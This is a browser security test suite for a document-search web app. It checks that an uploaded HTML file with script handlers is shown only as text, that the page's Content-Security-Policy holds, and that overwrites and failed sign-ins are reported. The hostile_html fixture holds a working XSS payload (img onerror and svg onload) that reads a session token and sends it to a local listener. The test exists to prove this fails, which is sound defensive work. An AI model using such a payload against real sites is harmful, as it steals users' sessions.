"""Issue 43, items 1 and 2 in a real Chromium: a document never runs in the page's origin,
and the page works under its own Content-Security-Policy.

alice (group hr) uploads ``hr-policy.html`` for ``group:hr``; it carries ``<img src=x
onerror=...>`` that reads the page's token (sessionStorage ``hybrid-rag-token``) and sends
it to a listener on loopback. carol (hr) and the admin each sign in, open Documents and
click it: the page shows its text as text, nothing of it runs, no request leaves for the
listener (nor for any host but the server), and opening the original's address directly
(with a token) downloads it instead of rendering it. A PDF opens in the browser's viewer.
Every step runs under the page's CSP with no violation reported.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.browser import DESKTOP, chromium, sign_in_with_token, unavailable
from tests.docgen import write_pdf
from tests.langgraph_server import LocalServer, serving
from tests.local_provider import LocalServer as Listener
from tests.test_document_security import make_users, upload, uploaded
from tests.test_documents_api import doc_url
from tools.access.users import USERS_FILE_ENV

pytestmark = pytest.mark.skipif(bool(unavailable()), reason=unavailable() or "")

WAIT_MS = 60_000
SETTLE_MS = 1_500  # an onerror fires at once; this leaves it time to send
# Registered before any page script (Playwright's init scripts are not subject to CSP).
WATCH_CSP = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


def hostile_html(listener: str) -> bytes:
    steal = f"new Image().src='{listener}/steal?t='+sessionStorage.getItem('hybrid-rag-token')"
    return (
        "<!doctype html><title>HR policy</title><h1>HR policy</h1>"
        "<p>Annual leave for HR staff is 25 days.</p>"
        f'<img src=x onerror="{steal}"><svg onload="{steal}"></svg>'
    ).encode()


@pytest.fixture(scope="module")
def site(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[LocalServer, dict[str, str], Listener]]:
    base = tmp_path_factory.mktemp("originals")
    users, tokens = make_users(base)
    home = base / "home"
    home.mkdir()
    pdf = write_pdf(base / "handbook.pdf", [[("h1", "Handbook"), ("p", "Page one.")],
                                             [("h1", "Leave"), ("p", "Page two.")]])  # fmt: skip
    with (
        Listener() as listener,
        serving(home, base / "dev.log", {USERS_FILE_ENV: str(users)}) as srv,
    ):
        with httpx.Client(base_url=srv.url, headers={"Authorization": f"Bearer {tokens['alice']}"},
                          timeout=60) as alice:  # fmt: skip
            job = uploaded(alice, [("hr-policy.html", hostile_html(listener.url)),
                                   ("handbook.pdf", pdf.read_bytes())], acl="group:hr")  # fmt: skip
            assert [f["status"] for f in job["files"]] == ["done", "done"], job
        yield srv, tokens, listener


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as b:
        yield b


class Tab:
    """One user's signed-in page, recording every request, popup and CSP violation."""

    def __init__(self, browser: Any, srv: LocalServer, token: str) -> None:
        self.context = browser.new_context(viewport=DESKTOP, locale="en-US")
        self.context.add_init_script(WATCH_CSP)
        self.requests: list[str] = []
        self.console: list[str] = []
        self.context.on("request", lambda r: self.requests.append(r.url))
        self.page = self.context.new_page()
        self.page.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))
        self.page.set_default_timeout(WAIT_MS)
        self.page.goto(f"{srv.url}/ui/")
        sign_in_with_token(self.page, token)
        self.page.wait_for_selector("#question", state="visible")

    def documents(self) -> None:
        self.page.click("#tab-docs")
        self.page.wait_for_selector("a.doc-link")

    def violations(self) -> list[str]:
        found = list(self.page.evaluate("window.__csp"))
        return found + [c for c in self.console if "Content Security Policy" in c]

    def elsewhere(self, url: str) -> list[str]:
        return [u for u in self.requests if not u.startswith((url, "blob:", "data:"))]


@pytest.mark.parametrize("user", ["carol", "root"])
def test_a_hostile_html_upload_runs_nowhere_when_opened(
    site: tuple[LocalServer, dict[str, str], Listener], browser: Any, user: str, tmp_path: Path
) -> None:
    srv, tokens, listener = site
    tab = Tab(browser, srv, tokens[user])
    try:
        tab.documents()
        popups: list[Any] = []
        tab.context.on("page", lambda p: popups.append(p))
        tab.page.click("#doc-rows tr:has-text('hr-policy.html') a.doc-link")
        viewer = tab.page.locator("#original-viewer")
        viewer.wait_for(state="visible")
        shown = viewer.locator(".viewer-text").inner_text()
        assert "onerror=" in shown and "sessionStorage" in shown  # its text, as text
        tab.page.wait_for_timeout(SETTLE_MS)
        tab.page.screenshot(path=str(tmp_path / f"viewer-{user}.png"))
        assert not popups  # no tab of it, no blob of it
        assert tab.page.locator("#original-viewer img, #original-viewer svg").count() == 0
        assert listener.hits() == [], [h.path for h in listener.hits()]
        assert tab.elsewhere(srv.url) == []
        # Its address opened directly, with a token: a download, never a rendered page.
        tab.context.set_extra_http_headers({"Authorization": f"Bearer {tokens[user]}"})
        direct = tab.context.new_page()
        with direct.expect_download() as download, pytest.raises(Exception, match="Download"):
            direct.goto(srv.url + doc_url("upload:hr-policy.html", "/original"))
        assert download.value.suggested_filename == "hr-policy.html"
        tab.page.wait_for_timeout(SETTLE_MS)
        assert listener.hits() == []
        assert tab.violations() == []
    finally:
        tab.context.close()


def test_a_pdf_opens_in_the_browsers_viewer_and_the_page_keeps_its_csp(
    site: tuple[LocalServer, dict[str, str], Listener], browser: Any, tmp_path: Path
) -> None:
    srv, tokens, listener = site
    tab = Tab(browser, srv, tokens["carol"])
    try:
        # The chat works under the CSP: an offline answer, streamed.
        tab.page.fill("#question", "How many days of annual leave do HR staff get?")
        tab.page.press("#question", "Enter")
        tab.page.wait_for_selector("article.turn.assistant .facts .meta")
        tab.documents()
        with tab.page.expect_popup() as popup:
            tab.page.click("#doc-rows tr:has-text('handbook.pdf') a.doc-link")
        opened = popup.value
        opened.wait_for_url(re.compile(r"^blob:"))
        opened.wait_for_timeout(SETTLE_MS)
        opened.screenshot(path=str(tmp_path / "pdf.png"))
        opened.close()
        # An upload the server refuses shows its reason next to the file.
        tab.page.set_input_files("#upload-input", files=[
            {"name": "hr-policy.html", "mimeType": "text/html", "buffer": b"<p>mine now</p>"}])  # fmt: skip
        tab.page.click("#upload-form button[type=submit]")
        row = tab.page.locator("#upload-files li[data-status=failed]")
        row.wait_for()
        assert "belongs to someone else" in row.inner_text()
        assert tab.violations() == []
        assert listener.hits() == []
    finally:
        tab.context.close()


def test_the_hostile_upload_is_refused_as_an_overwrite_by_api(
    site: tuple[LocalServer, dict[str, str], Listener],
) -> None:
    srv, tokens, _ = site
    with httpx.Client(base_url=srv.url, headers={"Authorization": f"Bearer {tokens['carol']}"},
                      timeout=60) as carol:  # fmt: skip
        assert upload(carol, [("hr-policy.html", b"<p>x</p>")]).status_code == 403


def test_a_sign_in_the_server_cannot_check_says_the_servers_reason(
    site: tuple[LocalServer, dict[str, str], Listener], browser: Any
) -> None:
    # Issue 43 item 19: a users file the server cannot read is 503 with its reason; the
    # sign-in said "This token was not accepted", contradicting the banner.
    srv, tokens, _ = site
    reason = "users file unavailable: /srv/users.json does not exist"
    context = browser.new_context(viewport=DESKTOP, locale="en-US")
    try:
        # No session: 401 (the sign-in shows); with one: the server cannot check it.
        def answer(route: Any) -> None:
            signed = "hybrid_rag_session=" in route.request.headers.get("cookie", "")
            route.fulfill(status=503 if signed else 401, json={"detail": reason})

        context.route(re.compile(r".*/threads/search$"), answer)
        page = context.new_page()
        page.set_default_timeout(WAIT_MS)
        page.goto(f"{srv.url}/ui/")
        sign_in_with_token(page, tokens["carol"])
        note = page.locator("#signin-note")
        note.filter(has_text=reason).wait_for()
        assert "not accepted" not in note.inner_text()
    finally:
        context.close()
